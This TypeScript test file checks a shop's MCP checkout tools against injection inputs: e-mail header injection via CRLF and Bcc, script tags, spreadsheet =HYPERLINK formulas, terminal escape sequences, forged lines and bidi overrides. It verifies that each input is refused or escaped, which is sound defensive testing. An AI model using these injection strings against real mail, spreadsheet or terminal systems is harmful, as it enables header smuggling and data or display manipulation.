// The attack strings of issue 23 fed through MCP. A buyer e-mail is one mailbox (RFC 5321
// §4.1.2, local part an RFC 5322 §3.2.3 dot-atom, domain in IDNA / UTS #46 punycode): anything
// else is -32602 naming `buyer.email` with nothing stored; an accepted address is stored,
// shown, hashed, rate-limited and mailed to in one normalised spelling, so the per-address
// limit of approval codes (docs/agent-commerce.md "Buyer approval") counts every spelling of one
// mailbox once. No free-text field of a cart or checkout takes a C0 or C1 control character
// (ECMA-48). The merchant's command line escapes what it cannot print, for orders stored before
// those refusals, and its CSV export neutralises formula cells (OWASP "CSV Injection").
import { describe, expect, it } from 'vitest';
import { ADDRESS, callRaw, callTool, checkoutHandler, line, openApproval, postApproval, readyCheckout, shipTo, testClock, uuid } from './helpers/checkout';
import { mailbox } from './helpers/mail';
import { PAID_ORDER_LINES, ordersCli, paidOrder } from './helpers/orders';
import { ITEMS } from './helpers/content';
import { APPROVAL_CODE, addressDigest } from '../src/commerce/approval-code';
import { emailProblem } from '../src/commerce/address';
import { parseMailbox } from '../src/commerce/email';
import { escapeNonPrintable, hasControlCharacters } from '../src/commerce/text';
import { ordersCsv } from '../src/merchant/format';
import { renderMail } from '../src/mail/layout';
import { catalog } from './helpers/ucp';
import type { OrderSummary } from '../src/state/order-list';

const S = ITEMS.stocked.variant.id;
const clock = testClock();
const { handler, db, ucp } = checkoutHandler({ now: clock.now });

/** E-mails of the attack run that are not one mailbox. */
const REFUSED_EMAILS = [
  'junk,victim@example.org',
  '=HYPERLINK("http://x")@example.org',
  'name@example.org.',
  '<script>alert(1)</script>@example.org',
  '"Name" <a@example.org>',
  'Name <a@example.org>',
  '<a@example.org>',
  'a@example.org (comment)',
  '"a b"@example.org',
  'a b@example.org',
  'a@[127.0.0.1]',
  'a@localhost',
  'a@example.org\r\nBcc: victim@example.org',
  'a\u0085@example.org',
];

/** Control characters of the attack run in a name: an ESC sequence (clears a terminal), CR/LF (forges a line), NEL (C1). */
const CONTROL_STRINGS = ['Camille\u001b[2J', 'Camille\r\ntotal     0.00 €', 'Camille\u0085Martin', 'Camille\u0000', 'Camille\u007f'];

/** Every row a cart or checkout call may write. */
async function rows(): Promise<string> {
  const tables = ['SELECT id, data, updated_at FROM carts ORDER BY id', 'SELECT id, state, data, updated_at FROM checkouts ORDER BY id', 'SELECT count(*) FROM idempotency_records'];
  return JSON.stringify(await Promise.all(tables.map(async (q) => (await db.query(q)).rows)));
}

/** The four tools that take a buyer, each with the payload key and a call with `payload` merged in. */
async function buyerTools() {
  const cart = await callTool(handler, 'create_cart', { cart: { line_items: [line(S)] } });
  const checkout = await callTool(handler, 'create_checkout', { checkout: { line_items: [line(S)] } });
  return [
    { tool: 'create_cart', key: 'cart', args: (payload: object) => ({ meta: { 'idempotency-key': uuid() }, cart: { line_items: [line(S)], ...payload } }) },
    { tool: 'update_cart', key: 'cart', args: (payload: object) => ({ meta: { 'idempotency-key': uuid() }, id: cart.id, cart: { line_items: [line(S)], ...payload } }) },
    { tool: 'create_checkout', key: 'checkout', args: (payload: object) => ({ meta: { 'idempotency-key': uuid() }, checkout: { line_items: [line(S)], ...payload } }) },
    { tool: 'update_checkout', key: 'checkout', args: (payload: object) => ({ meta: { 'idempotency-key': uuid() }, id: checkout.id, checkout: { line_items: [line(S)], ...payload } }) },
  ];
}

/** Calls a tool expecting -32602 naming `argument`, and nothing written. */
async function expectRefused(tool: string, args: object, argument: string) {
  const before = await rows();
  const { status, body } = await callRaw(handler, tool, args);
  expect(status, `${tool} ${argument}`).toBe(200);
  expect(body.error, `${tool} ${JSON.stringify(args)}`).toMatchObject({ code: -32602, data: { argument } });
  expect(body.error.message).toContain(argument);
  expect(await rows(), `${tool} ${argument}: nothing stored`).toBe(before);
}

describe('one mailbox, parsed once (src/commerce/email.ts)', () => {
  it('parseMailbox refuses lists, display names, comments, quoted strings, trailing dots, brackets, controls and spaces', () => {
    const more = ['', '@example.org', 'a@', 'a@b@example.org', '.a@example.org', 'a.@example.org', 'a..b@example.org', 'a@example..org', 'a@-x.org', 'a@x-.org', 'a@exa mple.org',
      'a@ex\tample.org', 'a@ex%61mple.org', 'a@0x7f.1', 'a@1.2.3.4', 'a@exa\u00admple.org', 'a@example.org\n', 'été@example.org', `${'x'.repeat(65)}@example.org`, `a@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}.${'e'.repeat(62)}`];
    for (const input of [...REFUSED_EMAILS, ...more]) {
      expect(parseMailbox(input), JSON.stringify(input)).toBeNull();
      expect(emailProblem(input), JSON.stringify(input)).toBe(input.trim() ? 'invalid' : 'missing');
    }
  });

  it('parseMailbox normalises: trimmed, domain lower-cased and in punycode, local part kept', () => {
    expect(parseMailbox('a@EXAMPLE.org')).toBe('a@example.org');
    expect(parseMailbox('a@bücher.example')).toBe('a@xn--bcher-kva.example');
    expect(parseMailbox(' Camille.Martin+shop@BÜCHER.Example ')).toBe('Camille.Martin+shop@xn--bcher-kva.example');
    expect(parseMailbox('a@XN--BCHER-KVA.EXAMPLE')).toBe('a@xn--bcher-kva.example');
    expect(parseMailbox("o'brien!#$%&*/=?^_`{|}~-@example.org")).toBe("o'brien!#$%&*/=?^_`{|}~-@example.org");
    expect(parseMailbox('=HYPERLINK@example.org'), 'a dot-atom may start with "=": the CSV export neutralises it').toBe('=HYPERLINK@example.org');
    expect(parseMailbox(`${'x'.repeat(64)}@example.org`)).not.toBeNull();
  });

  it('every spelling of one mailbox has one digest for the per-address limit', () => {
    const variants = ['v@bücher.example', 'v@BÜCHER.example', 'v@xn--bcher-kva.example', 'v@XN--BCHER-KVA.Example', ' v@Bücher.Example ', 'V@bücher.example'];
    expect(new Set(variants.map(addressDigest)).size).toBe(1);
    expect(addressDigest('w@bücher.example')).not.toBe(addressDigest(variants[0]));
  });
});

describe('buyer.email over MCP: one mailbox or -32602', () => {
  it('each refused attack string gets -32602 naming buyer.email in create_cart, update_cart, create_checkout, update_checkout, and nothing is stored', async () => {
    for (const { tool, key, args } of await buyerTools()) {
      for (const email of REFUSED_EMAILS) await expectRefused(tool, args({ buyer: { email } }), `${key}.buyer.email`);
    }
  });

  it('an accepted address is stored, echoed and shown normalised: domain lower-cased, IDN in punycode', async () => {
    for (const { tool, key, args } of await buyerTools()) {
      for (const [email, stored] of [['a@EXAMPLE.org', 'a@example.org'], ['a@bücher.example', 'a@xn--bcher-kva.example'], ['  b@Example.ORG ', 'b@example.org']]) {
        const result = await callTool(handler, tool, args({ buyer: { email } }));
        expect(result.buyer, `${tool} ${email}`).toEqual({ email: stored });
        const table = key === 'cart' ? 'carts' : 'checkouts';
        const { rows: [row] } = await db.query<{ data: { buyer: unknown } }>(`SELECT data FROM ${table} WHERE id = $1`, [result.id]);
        expect(row.data.buyer, `${tool} ${email}: the stored row`).toEqual({ email: stored });
      }
    }
  });

  it('the approval page shows, the order keeps, and the code and the confirmation go to the normalised address', async () => {
    const box = await mailbox();
    const before = box.messages.length;
    const { ready, done, orderId } = await paidOrder(handler, PAID_ORDER_LINES, { email: 'Camille@BÜCHER.Example' });
    const to = 'Camille@xn--bcher-kva.example';
    expect(ready.buyer.email).toBe(to);
    expect((await openApproval(handler, ready.continue_url)).text).toContain(to);
    expect(done.buyer.email).toBe(to);
    const { rows: [order] } = await db.query<{ buyer_email: string; data: { buyer: { email: string } } }>('SELECT buyer_email, data FROM orders WHERE id = $1', [orderId]);
    expect([order.buyer_email, order.data.buyer.email]).toEqual([to, to]);
    await ucp.deliverOutbox({ origin: 'http://localhost:8888' });
    const buyers = () => box.messages.filter((m) => m.seq > before && m.to.some((a) => a.includes('bcher')));
    await expect.poll(() => buyers().some((m) => m.subject.includes(done.order.label))).toBe(true);
    expect(buyers().length, 'the code and the confirmation').toBeGreaterThanOrEqual(2);
    for (const m of buyers()) {
      expect(m.to, m.subject).toEqual([to.toLowerCase()]);
      // mailparser shows a punycode domain in Unicode: parsed back, the header holds the address as stored.
      expect((m.headers.get('to') as { value: Array<{ address: string }> }).value.map((a) => parseMailbox(a.address)), m.subject).toEqual([to]);
    }
  });
});

describe('the per-address limit of approval codes holds against every spelling of one mailbox', () => {
  it(`sends for checkouts whose e-mails spell one mailbox differently count as one address: ${APPROVAL_CODE.perAddress} codes, then 429`, async () => {
    const spellings = ['victim@bücher.example', 'victim@BÜCHER.example', 'victim@xn--bcher-kva.example', 'victim@XN--BCHER-KVA.EXAMPLE', ' victim@Bücher.Example '];
    const box = await mailbox();
    const before = box.messages.length;
    for (let i = 0; i <= APPROVAL_CODE.perAddress; i++) {
      const ready = await readyCheckout(handler, undefined, { email: spellings[i % spellings.length] });
      const page = await openApproval(handler, ready.continue_url);
      const sent = await postApproval(handler, ready.continue_url, { s: page.secret!, terms: page.terms!, action: 'send' });
      expect(sent.status, `send ${i + 1} to ${spellings[i % spellings.length]}`).toBe(i < APPROVAL_CODE.perAddress ? 303 : 429);
    }
    await box.next('victim@xn--bcher-kva.example', before);
    const codes = () => box.messages.filter((m) => m.seq > before && /\b\d{6}\b/.test(m.subject));
    await expect.poll(() => codes().length).toBe(APPROVAL_CODE.perAddress);
    for (const m of codes()) expect(m.to).toEqual(['victim@xn--bcher-kva.example']);
  });

  it('the refused spellings (trailing dot, list, display name) never reach a checkout', async () => {
    const { id } = await callTool(handler, 'create_checkout', { checkout: { line_items: [line(S)] } });
    for (const email of ['victim@bücher.example.', 'junk,victim@bücher.example', 'Victim <victim@bücher.example>', '"Victim" <victim@xn--bcher-kva.example>']) {
      await expectRefused('update_checkout', { id, checkout: { line_items: [line(S)], buyer: { email } } }, 'checkout.buyer.email');
    }
  });
});

describe('no control characters stored (src/commerce/text.ts)', () => {
  it('hasControlCharacters: C0, DEL and C1, not other text', () => {
    for (const c of ['\u0000', '\u0009', '\n', '\r', '\u001b', '\u001f', '\u007f', '\u0080', '\u0085', '\u009f']) expect(hasControlCharacters(`a${c}b`), JSON.stringify(c)).toBe(true);
    for (const t of ['Zoë Łukasz', 'Hauptstraße 5', 'a\u00a0b', '東京', '🐟', '']) expect(hasControlCharacters(t), t).toBe(false);
  });

  it('escapeNonPrintable writes controls, bidi overrides and separators as escapes', () => {
    expect(escapeNonPrintable('Camille\u001b[2J\r\n\u0085')).toBe('Camille\\x1b[2J\\x0d\\x0a\\x85');
    expect(escapeNonPrintable('a\u202eb\u2028c\u200bd')).toBe('a\\u202eb\\u2028c\\u200bd');
    expect(escapeNonPrintable('Zoë \\ 🐟')).toBe('Zoë \\ 🐟');
  });

  it('every free-text field of carts and checkouts refuses C0 and C1 controls with -32602 naming the field', async () => {
    const [createCart, updateCart, createCheckout, updateCheckout] = await buyerTools();
    const destination = (field: string, value: string) => ({ fulfillment: shipTo({ ...ADDRESS.FR, [field]: value }) });
    const cases: Array<[typeof createCart, (v: string) => object, string]> = [
      ...(['first_name', 'last_name', 'email', 'phone_number'] as const).flatMap((f) => [createCart, updateCart, createCheckout, updateCheckout].map((t) => [t, (v: string) => ({ buyer: { [f]: v } }), `${t.key}.buyer.${f}`] as [typeof createCart, (v: string) => object, string])),
      ...['first_name', 'last_name', 'street_address', 'extended_address', 'postal_code', 'address_locality', 'address_region', 'address_country', 'phone_number'].map((f) => [updateCheckout, (v: string) => destination(f, v), `checkout.fulfillment.methods[0].destinations[0].${f}`] as [typeof createCart, (v: string) => object, string]),
      [createCheckout, (v) => destination('street_address', v), 'checkout.fulfillment.methods[0].destinations[0].street_address'],
      ...['address_country', 'address_region', 'postal_code', 'language', 'currency', 'intent'].flatMap((f) => [createCart, updateCheckout].map((t) => [t, (v: string) => ({ context: { [f]: v } }), `${t.key}.context.${f}`] as [typeof createCart, (v: string) => object, string])),
      [updateCheckout, (v) => ({ context: { eligibility: ['ok', v] } }), 'checkout.context.eligibility[1]'],
      [createCart, (v) => ({ line_items: [{ item: { id: `${S}${v}` }, quantity: 1 }] }), 'cart.line_items[0].item.id'],
      [updateCart, (v) => ({ line_items: [{ id: `li_${v}`, item: { id: String(S) }, quantity: 1 }] }), 'cart.line_items[0].id'],
      [createCheckout, (v) => ({ line_items: [{ id: `li_${v}`, item: { id: String(S) }, quantity: 1 }] }), 'checkout.line_items[0].id'],
      [updateCheckout, (v) => ({ line_items: [{ item: { id: `${S}${v}` }, quantity: 1 }] }), 'checkout.line_items[0].item.id'],
      [createCheckout, (v) => ({ line_items: undefined, cart_id: `cart_${v}` }), 'checkout.cart_id'],
      [updateCheckout, (v) => ({ fulfillment: { methods: [{ destinations: [ADDRESS.FR], groups: [{ selected_option_id: `x${v}` }] }] } }), 'checkout.fulfillment.methods[0].groups[0].selected_option_id'],
    ];
    for (const [{ tool, args }, payload, argument] of cases) {
      for (const value of CONTROL_STRINGS) await expectRefused(tool, args(payload(value)), argument);
    }
  });

  it('complete_checkout refuses controls in the payment instrument', async () => {
    const ready = await readyCheckout(handler);
    const instrument = { id: 'pi_1', handler_id: 'sandbox_card', type: 'card', display: { brand: 'visa\u001b[2J' }, credential: { type: 'token', token: 'success_token' } };
    await expectRefused('complete_checkout', { meta: { 'idempotency-key': uuid() }, id: ready.id, checkout: { payment: { instruments: [instrument] } } }, 'checkout.payment.instruments[0].display.brand');
    await expectRefused('complete_checkout', { meta: { 'idempotency-key': uuid() }, id: ready.id, checkout: { payment: { instruments: [{ ...instrument, display: {}, billing_address: { street_address: 'a\r\nb' } }] } } }, 'checkout.payment.instruments[0].billing_address.street_address');
  });
});

describe('the merchant command line and an order stored before the refusals', () => {
  /** C0 and C1 controls a terminal would act on (LF is the output's own line end). */
  const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2028\u2029]/;

  it('show, list and --json print no raw control character; export --csv neutralises an e-mail starting with "="', async () => {
    const { orderId, label } = await paidOrder(handler);
    const email = '=HYPERLINK("http://x.example/?"&A1)@example.org';
    await db.query(
      `UPDATE orders SET buyer_email = $2, data = jsonb_set(jsonb_set(data, '{buyer}', $3::jsonb), '{destination}', data -> 'destination' || $4::jsonb) WHERE id = $1`,
      [orderId, email, JSON.stringify({ email, first_name: 'Camille\u001b[2J' }),
        JSON.stringify({ first_name: 'Camille\u001b[2J\u001b[H', last_name: 'Martin\u0085', street_address: '12 rue des Mariniers\r\ntotal     0.00 €', address_locality: 'Lyon\u202e' })],
    );

    const shown = await ordersCli(db, ['show', label]);
    expect(shown.code, shown.err).toBe(0);
    expect(shown.out).not.toMatch(RAW_CONTROL);
    expect(shown.out).toContain('Camille\\x1b[2J\\x1b[H Martin\\x85');
    expect(shown.out).toContain('12 rue des Mariniers\\x0d\\x0atotal     0.00 €');
    expect(shown.out.split('\n').filter((l) => l.startsWith('total'))).toHaveLength(1);
    expect(shown.out).toContain(`buyer     ${email}`);

    const listed = await ordersCli(db, ['list']);
    expect(listed.out).not.toMatch(RAW_CONTROL);
    expect((await ordersCli(db, ['list', '--json'])).out).not.toMatch(RAW_CONTROL);
    const json = (await ordersCli(db, ['show', label, '--json'])).out;
    expect(json).not.toMatch(RAW_CONTROL);
    expect(json).toContain('Martin\\u0085');
    expect(JSON.parse(json).order.destination, 'the same values, escaped in JSON').toMatchObject({ last_name: 'Martin\u0085', address_locality: 'Lyon\u202e' });

    const csv = await ordersCli(db, ['export', '--csv']);
    const row = csv.out.split('\r\n').find((l) => l.startsWith(orderId))!;
    expect(row).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1)@example.org",`);
    expect(csv.out.replace(/\r\n/g, '\n'), 'CRLF ends the records, nothing else').not.toMatch(RAW_CONTROL);
  });

  it('e-mails: no control character of stored text reaches either part (a CR/LF cannot forge a line)', () => {
    const mail = renderMail({
      to: 'camille@example.org', subject: 'Commande\r\nBcc: x@example.org',
      blocks: [
        { kind: 'section', heading: 'Adresse', lines: ['Camille\u001b[2J\u001b[H Martin\u0085', '12 rue des Mariniers\r\ntotal     0.00 €'] },
        { kind: 'table', head: ['Article', 'Qté', 'Total'], rows: [{ label: 'Kit\u0007', quantity: 1, amount: 24900 }], totals: [{ label: 'Total', amount: 24900 }] },
      ],
    }, catalog.store, 'fr', 'https://poissons-et-pousses.example');
    for (const part of [mail.text.replace(/\n/g, ''), mail.html.replace(/\n/g, ''), mail.subject]) expect(part).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(mail.text.split('\n').filter((l) => l.trim().startsWith('total'))).toEqual([]);
    expect(mail.text).toContain('12 rue des Mariniers  total     0.00 €');
  });

  it('ordersCsv: cells starting with =, +, -, @, tab or CR get a leading quote; RFC 4180 quoting kept; numbers as they are', () => {
    const order = (buyer_email: string, country = 'FR'): OrderSummary => ({
      id: 'ord_1', label: 'PP-1', status: 'processing', created_at: '2026-11-20T10:00:00.000Z', locale: 'fr', currency: 'EUR', total: 1250, refunded: 0, buyer_email, country, units: 1, shipped: 0, delivered: 0, discount: 0, discount_codes: [] as string[],
    } as OrderSummary);
    const cell = (o: OrderSummary) => ordersCsv([o]).split('\r\n')[1].split(',').slice(7).join(',').replace(/,FR,fr,1,0,0(,[^,]*){9}$/, '');
    expect(cell(order('=1+2@example.org'))).toBe("'=1+2@example.org");
    expect(cell(order('+1@example.org'))).toBe("'+1@example.org");
    expect(cell(order('-1@example.org'))).toBe("'-1@example.org");
    expect(cell(order('@SUM(A1)'))).toBe("'@SUM(A1)");
    expect(cell(order('\t=1'))).toBe("'\\x09=1");
    expect(cell(order('\r=1'))).toBe("'\\x0d=1");
    expect(cell(order('a,b'))).toBe('"a,b"');
    expect(cell(order('=a,"b"'))).toBe(`"'=a,""b"""`);
    expect(cell(order('a=b@example.org'))).toBe('a=b@example.org');
    expect(ordersCsv([{ ...order('a@example.org'), refunded: -5 } as OrderSummary]).split('\r\n')[1]).toContain(',1250,-5,');
  });
});
